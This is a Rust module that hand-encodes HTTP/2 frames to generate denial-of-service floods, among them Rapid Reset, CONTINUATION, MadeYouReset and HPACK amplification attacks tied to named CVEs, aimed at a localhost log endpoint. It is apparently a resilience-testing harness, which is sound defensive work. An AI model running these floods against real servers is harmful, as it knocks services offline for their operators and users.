//! HTTP/2 as an attacker writes it: frames by hand (RFC 9113), header blocks without Huffman (RFC 7541).

/// What every connection begins with.
pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0xfa;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Frames that are written at once.
const AT_ONCE: usize = 64;

/// A flood of frames.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Flood {
    /// Streams that are opened and reset (CVE-2023-44487).
    RapidReset,
    /// A header that never ends (CVE-2024-27316).
    Continuation,
    /// Streams that the server has to reset (CVE-2025-8671).
    MadeYouReset,
    /// A header whose few bytes name a long field thousands of times.
    Hpack,
    /// SETTINGS, each to be acknowledged.
    Settings,
    /// PING, each to be answered.
    Ping,
    /// PRIORITY, which means nothing any more.
    Priority,
    /// WINDOW_UPDATE of one byte.
    WindowUpdate,
    /// Frames of a type that nobody knows.
    Unknown,
    /// DATA without a byte, on a stream that stays open.
    EmptyData,
    /// Requests whose answers find no window.
    NoWindow,
}

impl Flood {
    /// The first bytes of a connection: it shows its key with a request that is answered.
    pub(crate) fn begin(self, key: &str) -> Vec<u8> {
        let window = [0, 4, 0, 0, 0, 0];
        let settings: &[u8] = if self == Flood::NoWindow { &window } else { &[] };
        let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat();
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 1, &header(key)));
        match self {
            Flood::Continuation => bytes.extend(frame(HEADERS, 0, 3, &header(key))),
            Flood::EmptyData => bytes.extend(frame(HEADERS, END_HEADERS, 3, &header(key))),
            _ => {}
        }
        bytes
    }

    /// The next frames; `stream` is the last one that was opened.
    pub(crate) fn next(self, key: &str, stream: &mut u32) -> Vec<u8> {
        (0..AT_ONCE).flat_map(|_| self.one(key, stream)).collect()
    }

    fn one(self, key: &str, stream: &mut u32) -> Vec<u8> {
        let mut open = |flags| {
            *stream = stream.wrapping_add(2) & 0x7fff_ffff;
            frame(HEADERS, flags, *stream, &header(key))
        };
        match self {
            Flood::RapidReset => {
                let opened = open(END_HEADERS | END_STREAM);
                [opened, frame(RST_STREAM, 0, *stream, &8_u32.to_be_bytes())].concat()
            }
            Flood::MadeYouReset => {
                let opened = open(END_HEADERS);
                [opened, frame(WINDOW_UPDATE, 0, *stream, &[0; 4])].concat()
            }
            Flood::NoWindow => open(END_HEADERS | END_STREAM),
            Flood::Hpack => {
                *stream = stream.wrapping_add(2) & 0x7fff_ffff;
                let mut block = header(key);
                block.push(0x40);
                text(&mut block, "x");
                text(&mut block, &"v".repeat(3900));
                // The field that was named last, in one byte.
                block.resize(16_000, 0xbe);
                frame(HEADERS, END_HEADERS | END_STREAM, *stream, &block)
            }
            Flood::Continuation => frame(CONTINUATION, 0, 3, &[]),
            Flood::Settings => frame(SETTINGS, 0, 0, &[]),
            Flood::Ping => frame(PING, 0, 0, &[7; 8]),
            Flood::Priority => frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
            Flood::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Flood::Unknown => frame(UNKNOWN, 0, 0, &[]),
            Flood::EmptyData => frame(DATA, 0, 3, &[]),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A POST of logs with this key.
fn header(key: &str) -> Vec<u8> {
    // `:method: POST` and `:scheme: http` stand in the static table; 4 and 1 are the names `:path` and `:authority`.
    let mut block = vec![0x83, 0x86, 0x04];
    text(&mut block, "/v1/logs");
    block.push(0x01);
    text(&mut block, "localhost");
    for (name, value) in [("content-type", "application/x-protobuf"), ("authorization", key)] {
        block.push(0x00);
        text(&mut block, name);
        text(&mut block, value);
    }
    block
}

/// A string with its length (RFC 7541 section 5.2).
fn text(block: &mut Vec<u8>, text: &str) {
    match text.len() {
        length @ 0..127 => block.push(length as u8),
        mut length => {
            block.push(127);
            length -= 127;
            while length >= 128 {
                block.push((length % 128) as u8 | 128);
                length /= 128;
            }
            block.push(length as u8);
        }
    }
    block.extend(text.as_bytes());
}
